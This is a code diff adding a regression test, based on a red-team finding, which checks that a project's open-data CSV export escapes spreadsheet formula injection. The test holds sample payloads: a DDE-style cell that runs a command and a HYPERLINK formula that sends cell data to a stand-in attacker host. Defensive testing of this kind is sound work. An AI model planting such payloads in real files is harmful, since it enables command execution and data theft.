@@ -85,3 +85,20 @@ def test_signatures_share_an_anchor_only_when_it_stays_rare() -> None:
 def test_built_site_publishes_the_data(built_site) -> None:
     for name, text in FILES.items():
         assert (built_site / "data" / name).read_text(encoding="utf-8") == text
+
+
+def test_no_cell_of_xid_csv_is_a_spreadsheet_formula() -> None:
+    """Red team s24: an Xid name '=HYPERLINK(...)' or a summary starting '@SUM(...)' passed
+    validation and reached xid.csv as is: a formula once the open data is opened in a spreadsheet."""
+    from generator.corpus.validated import Corpus
+
+    entry = CORPUS.xid_entries()[0]
+    hostile = entry.model_copy(update={
+        "summary": "@SUM(1+1)*cmd|' /C calc'!A0 is what this code means.",
+        "xid": entry.xid.model_copy(update={"name": '=HYPERLINK("https://evil.example/?"&A1,"Click for the fix")'}),
+    })
+    text = datasets.xid_csv(Corpus(root=ROOT, entries=[hostile]))
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["name"] == "'" + hostile.xid.name and row["meaning"].startswith("'@SUM(")
+    for row in csv.reader(io.StringIO(FILES["xid.csv"])):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
